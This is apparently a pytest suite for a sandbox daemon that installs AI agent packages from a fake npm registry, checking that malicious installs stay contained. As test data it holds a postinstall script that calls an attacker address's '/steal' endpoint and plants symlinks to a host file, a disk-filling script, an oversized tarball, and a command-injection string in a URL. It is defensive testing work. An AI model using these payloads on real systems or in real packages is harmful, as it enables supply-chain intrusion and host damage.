"""`cell serve`: real agent installs from npm (POST /cells/{id}/v1/agents/
{agent}/install and the ACP proxy's lazy install), hermetic: a fake npm
registry on 198.18.42.1 serves the codex adapter's pinned name and version
(whose native package's binary is a shell script), the daemon runs with
--agent-registry pointing at it.

The attacks: the package's postinstall script (untrusted code, run in the
install cell) tries to reach another address and the daemon; code in a cell
tries to write the host-wide cache; a failing install must leave nothing; a
postinstall and a tarball try to fill the host's disk (the daemon runs with a
32 MiB --limit agents.installDisk); an install the host budget cannot hold
must not run.
One test installs the real codex adapter from registry.npmjs.org (release
stage only).
"""
import contextlib
import glob
import http.server
import json
import os
import random
import subprocess
import threading

import pytest

import daemon as dm
import netfake
import npmfake
from npmfake import GATE_JS, Registry
from daemon import assert_problem, make_tenant_token

NET = netfake.claim("198.18.42", "test_agent_install.py")
REGISTRY_IP, ATTACKER_IP = NET + ".1", NET + ".2"
ADAPTER, NATIVE, VERSION = npmfake.CODEX_ADAPTER, npmfake.CODEX_NATIVE, npmfake.CODEX_VERSION
LAUNCHER = "/root/.local/share/sandbox-agent/bin/agent_processes/codex-acp"
PI_LAUNCHER = "/root/.local/share/sandbox-agent/bin/agent_processes/pi-acp"
INSTALL_DISK = 32 << 20
CLAUDE, CLAUDE_VERSION = "@zed-industries/claude-agent-acp", "0.23.1"
OPENCODE, OPENCODE_VERSION = "opencode-ai", "1.18.33"
INSTALL_MEMORY = 1536 << 20                 # the install cell's memory (agentinstall.c)

# The native package's "binary": a one-shot ACP agent answering the first
# request with its own name and arguments; --help (after the launcher's
# own options) prints them.
FAKE_BIN = b"""#!/bin/sh
for a; do [ "$a" = "--help" ] && { echo "fake codex-acp help: $*"; exit 0; }; done
read -r line
id=$(printf '%s' "$line" | sed -n 's/.*"id":\\([0-9]*\\).*/\\1/p')
printf '{"jsonrpc":"2.0","id":%s,"result":{"agent":"fake-codex-acp"}}\\n' "${id:-1}"
sleep 30
"""

# postinstall: fills the disk it is given and says nothing (exit 0).
FILL_JS = b"""
const fs = require('fs');
const buf = Buffer.alloc(1 << 20, 120);
const fd = fs.openSync(__dirname + '/fill.bin', 'w');
try { for (let i = 0; i < 4096; i++) fs.writeSync(fd, buf); } catch (e) { }
"""

# postinstall: untrusted code in the install cell; records what it reached.
PROBE_JS = b"""
const http = require('http'), fs = require('fs');
const targets = JSON.parse(fs.readFileSync(__dirname + '/targets.json'));
// Symlinks to a host file for the daemon to follow when it chowns, chmods
// or writes the manifest (the path is the host's; in the cell it is nothing).
const canary = fs.readFileSync(__dirname + '/canary.txt', 'utf8').trim();
fs.symlinkSync(canary, __dirname + '/canary-link');
fs.symlinkSync(canary, '/stage/pkg/.cell-manifest.json');
fs.symlinkSync(canary, '/stage/pkg/node_modules/.cell-manifest.json');
const out = {};
let left = Object.keys(targets).length;
for (const [name, url] of Object.entries(targets)) {
  let settled = false;
  const done = (r) => { if (settled) return; settled = true; out[name] = r;
    if (--left === 0) fs.writeFileSync(__dirname + '/probe.json', JSON.stringify(out)); };
  const req = http.get(url, { timeout: 4000 }, (res) => { res.resume(); done('status ' + res.statusCode); });
  req.on('error', (e) => done('error ' + e.code));
  req.on('timeout', () => { req.destroy(); done('timeout'); });
}
"""


class Seen(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a):
        pass

    def do_GET(self):
        self.server.seen.append(self.path)
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")


@pytest.fixture(scope="module")
def env(tmp_path_factory):
    if os.geteuid() != 0:
        pytest.skip("cell serve tests must run as root")
    net = netfake.Net([REGISTRY_IP, ATTACKER_IP]).up()
    try:
        reg_srv = net.serve(netfake.HTTPServer((REGISTRY_IP, 0), http.server.BaseHTTPRequestHandler))
        port = reg_srv.server_address[1]
        reg = Registry("http://%s:%d/" % (REGISTRY_IP, port))
        reg_srv.RequestHandlerClass = reg.handler()
        attacker = net.serve(netfake.HTTPServer((ATTACKER_IP, 0), Seen))
        dport = dm.free_port()
        targets = {"registry": reg.base + ADAPTER.replace("/", "%2f"),
                   "attacker": "http://%s:%d/steal" % (ATTACKER_IP, attacker.server_address[1]),
                   "daemon": "http://127.0.0.1:%d/v1/health" % dport,
                   "daemon_on_registry_ip": "http://%s:%d/v1/health" % (REGISTRY_IP, dport)}
        reg.add(ADAPTER, VERSION, {"bin": {"codex-acp": "bin/codex-acp.js"},
                                   "optionalDependencies": {NATIVE: VERSION}},
                {"bin/codex-acp.js": (b"#!/usr/bin/env node\nconsole.log('wrapper')\n", 0o755)})
        canary = str(tmp_path_factory.mktemp("canary") / "host-file")
        with open(canary, "w") as f:
            f.write("untouched")
        os.chown(canary, 1234, 1234)
        os.chmod(canary, 0o666)
        reg.add(NATIVE, VERSION, {"scripts": {"postinstall": "node probe.js"}},
                {"bin/codex-acp": (FAKE_BIN, 0o777), "probe.js": (PROBE_JS, 0o644),
                 "targets.json": (json.dumps(targets).encode(), 0o644), "canary.txt": (canary.encode(), 0o644)})
        reg.canary = canary
        # Two ways to fill the host's disk: a postinstall that writes until
        # it cannot, a 48 MiB file in a tarball of ~200 KiB (npm refuses
        # more than 1000 times: some noise keeps under it).
        reg.add(CLAUDE, CLAUDE_VERSION, {"scripts": {"postinstall": "node fill.js"}},
                {"fill.js": (FILL_JS, 0o644)})
        reg.add(OPENCODE, OPENCODE_VERSION, {},
                {"big.bin": (random.Random(1).randbytes(128 << 10) + bytes(48 << 20), 0o644)})
        state = tmp_path_factory.mktemp("agentinstall")
        # A small install disk: the fake packages need little, the filling
        # ones below must hit it fast.
        dd = dm.Daemon(state, ["--agent-registry", reg.base, "--limit", "agents.installDisk=%d" % INSTALL_DISK],
                       port=dport)
        dd.start()
        try:
            yield dd, reg, attacker
        finally:
            try:
                dd.stop()
            finally:
                dd.check_sanitizer()
    finally:
        net.down()


@pytest.fixture(scope="module")
def admin(env):
    return env[0].client()


def new_cell(client):
    return dm.create_cell(client, "256M")


def sh(client, cid, script):
    r = client.post("/cells/%s/v1/processes/run" % cid, {"command": "sh", "args": ["-c", script]})
    assert r.status == 200, r
    return r.body


def install(client, cid, agent="codex", body=None):
    return client.post("/cells/%s/v1/agents/%s/install" % (cid, agent), body or {}, timeout=300)


def cache_dirs(dd, prefix):
    root = os.path.join(dd.state, "agents")
    return sorted(n for n in os.listdir(root) if n.startswith(prefix))


@pytest.fixture(scope="module")
def cells(admin):
    """Two cells of two tenants installing codex at the same time."""
    tok, _ = make_tenant_token(admin, dm.uniq("inst"))
    other = admin.with_token(tok)
    a, b = new_cell(admin), new_cell(other)
    yield (admin, a), (other, b)
    admin.delete("/v1/cells/%s" % a)
    other.delete("/v1/cells/%s" % b)


def test_concurrent_installs_run_npm_once(env, cells):
    dd, reg, _ = env
    out = [None, None]

    def go(i):
        client, cid = cells[i]
        out[i] = install(client, cid)

    threads = [threading.Thread(target=go, args=(i,)) for i in range(2)]
    [t.start() for t in threads]
    [t.join(300) for t in threads]
    for r in out:
        assert r is not None and r.status == 200, json.dumps(r.body, indent=1)
        assert r.body["already_installed"] is False
        art = r.body["artifacts"][0]
        assert art == {"kind": "agent_process", "path": LAUNCHER, "source": "npm", "version": VERSION}, art
    # One npm run: each tarball fetched once, one cache dir.
    assert reg.fetches("codex-acp-linux-x64-0.16.0.tgz") == 1, reg.seen
    assert reg.fetches("codex-acp-0.16.0.tgz") == 1, reg.seen
    assert len(cache_dirs(dd, "codex-0.16.0-")) == 1
    with open(os.path.join(dd.state, "audit.log")) as f:
        recs = [json.loads(line) for line in f if '"agent_install"' in line]
    assert sorted(r["npm"] for r in recs if r["agent"] == "codex") == [False, True], recs


def test_launcher_runs_the_cached_binary(env, cells):
    dd, _, _ = env
    for client, cid in cells:
        r = client.get("/cells/%s/v1/agents/codex" % cid, query={"config": "true"})
        assert r.status == 200 and r.body["installed"] is True, r
        assert r.body["version"] == VERSION
        key = cache_dirs(dd, "codex-0.16.0-")[0]
        assert r.body["path"] == "/opt/cell-agents/%s/node_modules/%s/bin/codex-acp" % (key, NATIVE)
        out = sh(client, cid, "%s --help" % LAUNCHER)
        assert out["exitCode"] == 0 and "fake codex-acp help" in out["stdout"], out
        # Codex's own sandbox cannot run in a cell: the launcher turns it
        # off and keeps the permission requests (docs/security.md).
        assert '-c sandbox_mode="danger-full-access" -c approval_policy="untrusted" --help' in out["stdout"], out
    # OPENAI_BASE_URL (codex-acp does not read it) becomes a model provider,
    # passed as it is: the shell expands nothing in it.
    client, cid = cells[0]
    url = "https://model.test/v1/$(touch /tmp/pwned)`touch /tmp/pwned`;x"
    r = client.post("/cells/%s/v1/processes/run" % cid, {"command": LAUNCHER, "args": ["--help"],
                                                         "env": {"OPENAI_BASE_URL": url}})
    assert r.status == 200 and r.body["exitCode"] == 0, r
    assert ('-c model_provider="cell" -c model_providers.cell={name="cell",base_url="%s",env_key="OPENAI_API_KEY",'
            'wire_api="responses"} --help' % url) in r.body["stdout"], r.body
    assert sh(client, cid, "test -e /tmp/pwned; echo $?")["stdout"] == "1\n"


def test_cache_is_read_only_in_cells_and_root_owned(env, cells):
    dd, _, _ = env
    key = cache_dirs(dd, "codex-0.16.0-")[0]
    client, cid = cells[1]
    # As the cell's root: the cache is a read-only bind.
    target = "/opt/cell-agents/%s/node_modules/%s/bin/codex-acp" % (key, NATIVE)
    for script in ("echo evil > %s" % target, "touch /opt/cell-agents/%s/new" % key,
                   "mkdir /opt/cell-agents/planted", "rm -rf /opt/cell-agents/%s" % key,
                   "chmod 777 %s" % target):
        out = sh(client, cid, script)
        assert out["exitCode"] != 0 and "Read-only file system" in out["stderr"], (script, out)
    # On the host: root-owned, no group/other write (the package's binary
    # came as 0777; a setuid bit cannot even be created in a cell).
    root = os.path.join(dd.state, "agents", key)
    for dirpath, dirnames, filenames in os.walk(root):
        for n in dirnames + filenames:
            st = os.lstat(os.path.join(dirpath, n))
            assert st.st_uid == 0 and st.st_gid == 0, (n, st)
            assert st.st_mode & 0o7022 == 0 or os.path.islink(os.path.join(dirpath, n)), (n, oct(st.st_mode))
    manifest = json.load(open(os.path.join(root, ".cell-manifest.json")))
    assert manifest["requested"] == ["%s@%s" % (ADAPTER, VERSION)]
    assert manifest["packages"][NATIVE]["integrity"].startswith("sha512-")


def test_postinstall_reaches_only_the_registry(env, cells):
    dd, _, attacker = env
    key = cache_dirs(dd, "codex-0.16.0-")[0]
    probe = json.load(open(os.path.join(dd.state, "agents", key, "node_modules", NATIVE, "probe.json")))
    assert probe["registry"] == "status 200", probe       # the install cell's network works
    for name in ("attacker", "daemon", "daemon_on_registry_ip"):
        assert not probe[name].startswith("status"), probe
    assert attacker.seen == [], attacker.seen
    # ... and the install cell's denied flow is in the audit log.
    with open(os.path.join(dd.state, "audit.log")) as f:
        net = [json.loads(line) for line in f if '"agent-install"' in line]
    denied = [r for r in net if r.get("kind") == "net" and r.get("verdict") == "deny"
              and r.get("dst", "").startswith(ATTACKER_IP + ":")]
    assert denied and denied[0]["installKey"] == key, net


def test_planted_symlinks_are_not_followed_on_the_host(env, cells):
    dd, reg, _ = env
    # The postinstall planted links to a host file where the daemon writes
    # the manifest and among the files it chowns and chmods.
    st = os.lstat(reg.canary)
    assert (st.st_uid, st.st_gid, st.st_mode & 0o7777) == (1234, 1234, 0o666), st
    assert open(reg.canary).read() == "untouched"
    key = cache_dirs(dd, "codex-0.16.0-")[0]
    root = os.path.join(dd.state, "agents", key)
    assert not os.path.islink(os.path.join(root, ".cell-manifest.json"))
    assert os.path.islink(os.path.join(root, "node_modules", NATIVE, "canary-link"))


def test_second_install_is_a_no_op(env, cells):
    _, reg, _ = env
    before = len(reg.seen)
    client, cid = cells[0]
    r = install(client, cid)
    assert r.status == 200 and r.body["already_installed"] is True, r
    assert len(reg.seen) == before


def test_a_tenants_reinstall_rewrites_its_launcher_only(env, cells):
    _, reg, _ = env
    before = len(reg.seen)
    client, cid = cells[1]                  # not the admin
    sh(client, cid, "echo 'exit 9' > %s" % LAUNCHER)
    r = install(client, cid, body={"reinstall": True})
    assert r.status == 200 and r.body["already_installed"] is False, r
    assert len(reg.seen) == before          # no npm run over the shared cache
    out = sh(client, cid, "%s --help" % LAUNCHER)
    assert out["exitCode"] == 0 and "fake codex-acp help" in out["stdout"], out


def test_a_launcher_naming_a_removed_cache_dir_is_rewritten(env, cells):
    # After a restart with other pins the daemon removed the launcher's
    # cache dir: the next install (or ACP spawn) writes the current one,
    # from the cache, while a client's own launcher is left alone.
    dd, reg, _ = env
    before = len(reg.seen)
    client, cid = cells[0]
    key = cache_dirs(dd, "codex-0.16.0-")[0]
    stale = "#!/bin/sh\n# cell: agent codex from x (cache codex-0.15.0-0123456789abcdef), read-only\nexit 7\n"
    assert client.put("/cells/%s/v1/fs/file" % cid, body=stale.encode(), query={"path": LAUNCHER}).status in (200, 204)
    r = install(client, cid)
    assert r.status == 200 and r.body["already_installed"] is False, r
    out = sh(client, cid, "cat %s; %s --help" % (LAUNCHER, LAUNCHER))
    assert "(cache %s)" % key in out["stdout"] and "fake codex-acp help" in out["stdout"], out
    own = b"#!/bin/sh\necho my own agent\n"
    assert client.put("/cells/%s/v1/fs/file" % cid, body=own, query={"path": LAUNCHER}).status in (200, 204)
    r = install(client, cid)
    assert r.status == 200 and r.body["already_installed"] is True, r
    assert sh(client, cid, "cat %s" % LAUNCHER)["stdout"] == own.decode()
    assert len(reg.seen) == before
    install(client, cid, body={"reinstall": True})
    # An older daemon's launcher over the same cache dir (without the
    # sandbox arguments this one passes) is ours but not current: rewritten
    # from the cache, so an upgrade reaches the cells made before it.
    before = len(reg.seen)
    cur = sh(client, cid, "cat %s" % LAUNCHER)["stdout"]
    older = cur.replace(""" -c 'sandbox_mode="danger-full-access"' -c 'approval_policy="untrusted"'""", "")
    assert older != cur and "(cache %s)" % key in older
    assert client.put("/cells/%s/v1/fs/file" % cid, body=older.encode(), query={"path": LAUNCHER}).status in (200, 204)
    r = install(client, cid)
    assert r.status == 200 and r.body["already_installed"] is False, r
    assert sh(client, cid, "cat %s" % LAUNCHER)["stdout"] == cur
    assert len(reg.seen) == before


def test_lazy_install_through_acp_spawns_the_cached_agent(env, admin):
    _, reg, _ = env
    before = reg.fetches(".tgz")
    cid = new_cell(admin)
    try:
        r = admin.post("/cells/%s/v1/acp/s1" % cid, {"jsonrpc": "2.0", "id": 7, "method": "initialize",
                                                        "params": {}}, query={"agent": "codex"}, timeout=120)
        assert r.status == 200, r
        assert r.body["result"] == {"agent": "fake-codex-acp"}, r
        assert reg.fetches(".tgz") == before      # from the cache
        admin.delete("/cells/%s/v1/acp/s1" % cid)
    finally:
        admin.delete("/v1/cells/%s" % cid)


def test_reinstall_streams_progress_and_a_result(env, cells):
    dd, reg, _ = env
    before = reg.fetches("codex-acp-linux-x64-0.16.0.tgz")
    client, cid = cells[0]
    c = client.conn(300)
    c.request("POST", "/cells/%s/v1/agents/codex/install" % cid, body=b'{"reinstall": true}',
              headers=client.headers_for({"Accept": "text/event-stream", "Content-Type": "application/json"}))
    resp = c.getresponse()
    assert resp.status == 200 and resp.getheader("Content-Type") == "text/event-stream"
    events = dm.sse_events(resp, limit_s=300)
    c.close()
    kinds = [e for e, _ in events]
    assert kinds[-1] == "result" and kinds.count("result") == 1, events
    assert "progress" in kinds, events
    assert any("codex-acp-linux-x64" in json.loads(d)["line"] for e, d in events if e == "progress"), events
    result = json.loads(events[-1][1])
    assert result["already_installed"] is False and result["artifacts"][0]["version"] == VERSION, result
    assert reg.fetches("codex-acp-linux-x64-0.16.0.tgz") == before + 1
    assert len(cache_dirs(dd, "codex-0.16.0-")) == 1
    assert os.listdir(os.path.join(dd.state, "agents-staging")) == []


def test_failing_install_leaves_nothing_and_says_why(env, cells):
    dd, _, _ = env
    client, cid = cells[1]
    r = install(client, cid, "pi")          # the fake registry has no pi-acp
    assert_problem(r, 502, "install_failed")
    assert any("404" in line for line in r.body["details"]["stderr"]), r
    assert r.body["details"]["exitCode"] != 0
    assert cache_dirs(dd, "pi-") == []
    assert os.listdir(os.path.join(dd.state, "agents-staging")) == []
    out = sh(client, cid, "test -e %s" % PI_LAUNCHER)
    assert out["exitCode"] != 0
    r = client.get("/cells/%s/v1/agents/pi" % cid)
    assert r.body["installed"] is False
    # The same as SSE: one result event with the problem.
    c = client.conn(300)
    c.request("POST", "/cells/%s/v1/agents/pi/install" % cid, body=b"{}",
              headers=client.headers_for({"Accept": "text/event-stream", "Content-Type": "application/json"}))
    events = dm.sse_events(c.getresponse(), limit_s=300)
    c.close()
    assert events[-1][0] == "result", events
    assert json.loads(events[-1][1])["status"] == 502


def disk_used(dd):
    """Blocks the agent cache and the staging directory hold on the host."""
    total = 0
    for sub in ("agents", "agents-staging"):
        for dirpath, dirnames, filenames in os.walk(os.path.join(dd.state, sub)):
            total += sum(os.lstat(os.path.join(dirpath, n)).st_blocks * 512 for n in dirnames + filenames)
    return total


def loops_of(state):
    """Loop devices whose file is (or was, if deleted) under the state dir."""
    return [f for f in glob.glob("/sys/block/loop*/loop/backing_file") if str(state) in dm._read(f)]


def no_loops_of(state):
    # The kernel lets an autoclear device go just after its last close.
    return dm.wait_for(lambda: not loops_of(state), timeout=10)


def staging_mounts(dd):
    return [l for l in dm.mounts_under(dd.state) if "agents-staging" in l]


@pytest.mark.parametrize("agent,tarball", [("claude", "claude-agent-acp-0.23.1.tgz"),
                                           ("opencode", "opencode-ai-1.18.33.tgz")])
def test_an_install_cannot_fill_the_host_disk(env, cells, agent, tarball):
    # claude's postinstall writes until ENOSPC and exits 0 as if all went
    # well; opencode's tarball unpacks to twice the limit.
    dd, reg, _ = env
    client, cid = cells[1]
    before = disk_used(dd)
    r = install(client, cid, agent)
    assert reg.fetches(tarball) >= 1, reg.seen
    assert_problem(r, 502, "install_failed", ["agents.installDisk", str(INSTALL_DISK)])
    assert r.body["details"]["limit"] == "agents.installDisk", r.body
    assert r.body["details"]["limitBytes"] == INSTALL_DISK, r.body
    # Nothing left: no cache or staging dir, no mount, no loop device still
    # holding the (deleted) image, not a block more on the host.
    assert cache_dirs(dd, agent + "-") == []
    assert os.listdir(os.path.join(dd.state, "agents-staging")) == []
    assert staging_mounts(dd) == [] and no_loops_of(dd.state)
    assert disk_used(dd) == before
    assert sh(client, cid, "test -e /root/.local/share/sandbox-agent/bin/agent_processes/%s-acp" % agent)[
        "exitCode"] != 0


def test_limits_show_the_install_disk_and_the_cache(env, admin):
    dd, _, _ = env
    r = admin.get("/v1/limits")
    assert r.status == 200, r
    agents = r.body["agents"]
    assert agents["installDisk"] == INSTALL_DISK and agents["installing"] == {"memory": 0, "pids": 0}, agents
    # codex is the one agent in the cache: its blocks, as the host counts them.
    assert agents["cacheDirs"] == len(os.listdir(os.path.join(dd.state, "agents"))) == 1, agents
    on_disk = 0
    for dirpath, dirnames, filenames in os.walk(os.path.join(dd.state, "agents")):
        on_disk += sum(os.lstat(os.path.join(dirpath, n)).st_blocks * 512 for n in dirnames + filenames)
    assert 0 < agents["cacheBytes"] and abs(agents["cacheBytes"] - on_disk) <= 4096, (agents, on_disk)
    assert "agents.installDisk" not in r.body["ceilings"]
    # Tenants do not see it.
    tok, _ = make_tenant_token(admin, dm.uniq("lim"))
    assert admin.with_token(tok).get("/v1/limits").status == 403


def test_agents_without_an_npm_adapter_and_bad_input(env, cells):
    client, cid = cells[0]
    for agent in ("amp", "cursor"):
        r = install(client, cid, agent)
        assert_problem(r, 501, "install_failed")
        assert "npm" in r.body["detail"], r
    assert_problem(install(client, cid, "nope"), 400, "unsupported_agent")
    assert_problem(install(client, cid, "codex", {"reinstall": "yes"}), 422)
    # Another tenant's cell: not found.
    other, other_cid = cells[1]
    r = other.post("/cells/%s/v1/agents/codex/install" % cid, {})
    assert r.status == 404, r


def test_install_into_a_stopped_cell_is_409(admin):
    cid = new_cell(admin)
    try:
        assert admin.post("/v1/cells/%s/stop" % cid, {}).status in (200, 204)
        r = install(admin, cid)
        assert r.status == 409, r
    finally:
        admin.delete("/v1/cells/%s" % cid)


def test_bad_install_disk_flag_refused(tmp_path):
    for value in ("1M", "0", "-5", "lots", "", "16E"):
        p = subprocess.run([dm.CELL_BIN, "--state", str(tmp_path / "s"), "serve", "--init", "--listen", "",
                            "--limit", "agents.installDisk=" + value], capture_output=True, text=True, timeout=30)
        assert p.returncode != 0 and "agents.installDisk" in p.stderr, (value, p.stderr)


@contextlib.contextmanager
def gated_registry():
    """A registry of its own (another port) whose codex postinstall waits
    for reg.gate."""
    reg_srv = netfake.start(netfake.HTTPServer((REGISTRY_IP, 0), http.server.BaseHTTPRequestHandler))
    reg = Registry("http://%s:%d/" % (REGISTRY_IP, reg_srv.server_address[1]))
    try:
        reg_srv.RequestHandlerClass = reg.handler()
        reg.add(ADAPTER, VERSION, {"optionalDependencies": {NATIVE: VERSION}}, {})
        reg.add(NATIVE, VERSION, {"scripts": {"postinstall": "node gate.js"}},
                {"bin/codex-acp": (FAKE_BIN, 0o755), "gate.js": ((GATE_JS % (reg.base + "gate")).encode(), 0o644)})
        yield reg
    finally:
        reg.gate.set()
        netfake.stop(reg_srv)


def test_a_crash_mid_install_leaves_nothing_after_restart(env, tmp_path):
    with gated_registry() as reg:
        dd = dm.Daemon(tmp_path / "crash", ["--agent-registry", reg.base])
        dd.start()
        try:
            admin = dd.client()
            cid = new_cell(admin)
            def go():
                try:
                    install(admin, cid)
                except OSError:
                    pass            # the daemon dies under it

            t = threading.Thread(target=go, daemon=True)
            t.start()
            assert dm.wait_for(lambda: reg.fetches("/gate"), timeout=120), reg.seen
            assert len(staging_mounts(dd)) == 1 and len(loops_of(dd.state)) == 1
            dd.kill9()
            t.join(30)
            dd.start()          # unmounts the crash's staging filesystem, then removes it
            assert staging_mounts(dd) == [] and no_loops_of(dd.state)
            assert os.listdir(os.path.join(dd.state, "agents-staging")) == []
            assert os.listdir(os.path.join(dd.state, "agents")) == []
        finally:
            dd.stop()
            dd.check_sanitizer()


def test_an_install_the_host_budget_cannot_hold_does_not_run(env, tmp_path):
    """A daemon whose memory budget is 2 GiB: the install cell's 1.5 GiB fits
    only beside little else, and while it runs it is reserved like a cell."""
    with gated_registry() as reg:
        state = tmp_path / "budget"
        # Leftovers of other pins and registries, and a crash's copy: not
        # current, so the daemon removes them at start.
        for stale in ("codex-0.15.0-0123456789abcdef", "claude-0.23.1-0123456789abcdef", ".x.copy", "nope"):
            os.makedirs(state / "agents" / stale / "node_modules")
        with dm.served(state, ["--agent-registry", reg.base, "--limit", "host.memory=3G",
                               "--limit", "reserve.memory=1G"]) as dd:
            assert os.listdir(os.path.join(dd.state, "agents")) == []
            admin = dd.client()
            a = new_cell(admin)                                             # 256M
            b = admin.post("/v1/cells", {"resources": {"memory": "512M"}}).body["id"]
            # 768M reserved + 1.5G > 2G: refused, and no npm ran.
            r = install(admin, a)
            assert_problem(r, 409, "budget_exceeded", ["agent install", str(INSTALL_MEMORY)])
            assert r.body["details"]["budget"] == "memory" and r.body["details"]["asked"] == INSTALL_MEMORY
            r = admin.post("/cells/%s/v1/acp/s1" % a, {"jsonrpc": "2.0", "id": 1, "method": "initialize"},
                           query={"agent": "codex"})
            assert_problem(r, 409, "budget_exceeded")
            c = admin.conn(60)
            c.request("POST", "/cells/%s/v1/agents/codex/install" % a, body=b"{}",
                      headers=admin.headers_for({"Accept": "text/event-stream", "Content-Type": "application/json"}))
            events = dm.sse_events(c.getresponse(), limit_s=60)
            c.close()
            result = json.loads(events[-1][1])
            assert events[-1][0] == "result" and result["status"] == 409, events
            assert result["type"].endswith("budget_exceeded"), result
            assert reg.seen == [] and os.listdir(os.path.join(dd.state, "agents-staging")) == []
            # Without b it fits; while npm runs, its 1.5G is reserved: a
            # 512M cell does not fit beside it.
            assert admin.delete("/v1/cells/%s" % b).status in (200, 204)
            out = []
            t = threading.Thread(target=lambda: out.append(install(admin, a)))
            t.start()
            try:
                assert dm.wait_for(lambda: reg.fetches("/gate"), timeout=120), reg.seen
                lim = admin.get("/v1/limits").body
                assert lim["agents"]["installing"] == {"memory": INSTALL_MEMORY, "pids": 512}, lim
                assert lim["budget"]["memory"]["reserved"] == (256 << 20) + INSTALL_MEMORY, lim
                r = admin.post("/v1/cells", {"resources": {"memory": "512M"}})
                assert_problem(r, 409, "budget_exceeded", ["memory"])
            finally:
                reg.gate.set()
                t.join(120)
            assert out and out[0].status == 200, out
            lim = admin.get("/v1/limits").body
            assert lim["agents"]["installing"] == {"memory": 0, "pids": 0}, lim
            assert lim["agents"]["cacheDirs"] == 1, lim
            r = admin.post("/v1/cells", {"resources": {"memory": "512M"}})
            assert r.status == 201, r
            # A restart keeps the current install.
            key = cache_dirs(dd, "codex-0.16.0-")
            dd.stop()
            dd.start()
            assert cache_dirs(dd, "codex-0.16.0-") == key and len(key) == 1


def test_bad_registry_flag_refused(tmp_path):
    for url in ("ftp://example.org/", "not a url", "http://user@host/"):
        p = subprocess.run([dm.CELL_BIN, "--state", str(tmp_path / "s"), "serve", "--init", "--listen", "",
                            "--agent-registry", url], capture_output=True, text=True, timeout=30)
        assert p.returncode != 0 and "--agent-registry" in p.stderr, (url, p.stderr)


def test_a_registry_host_the_policy_refuses_fails_every_install_naming_the_flag(tmp_path):
    # The install policy is checked at the first install (not at start, which
    # loaded the net plugin into every daemon): a host name its rules refuse
    # never gets an install cell, and each install says which flag is wrong.
    for url in ("http://-x/", "http://a..b/", "http://x*y:8080/"):
        with dm.served(tmp_path / dm.uniq("reg"), ["--agent-registry", url]) as dd:
            admin = dd.client()
            cid = new_cell(admin)
            for _ in range(2):
                r = install(admin, cid)
                assert_problem(r, 500, detail_has=["--agent-registry " + url, "host.name"])
            assert not glob.glob(os.path.join(dd.state, "agents", "codex-*")), url


@pytest.mark.skipif(dm.ASAN or dm.TSAN, reason="real npm install: release stage only")
def test_real_codex_adapter_from_npmjs(tmp_path):
    with dm.served(tmp_path / "real") as dd:
        admin = dd.client()
        cid = new_cell(admin)
        r = install(admin, cid)
        if r.status == 502 and any("ENOTFOUND" in l or "EAI_AGAIN" in l for l in r.body["details"]["stderr"]):
            pytest.skip("registry.npmjs.org is not reachable from here")
        assert r.status == 200, r
        out = sh(admin, cid, "%s --help" % LAUNCHER)
        assert out["exitCode"] == 0 and "Usage: codex-acp" in out["stdout"], out
        admin.delete("/v1/cells/%s" % cid)
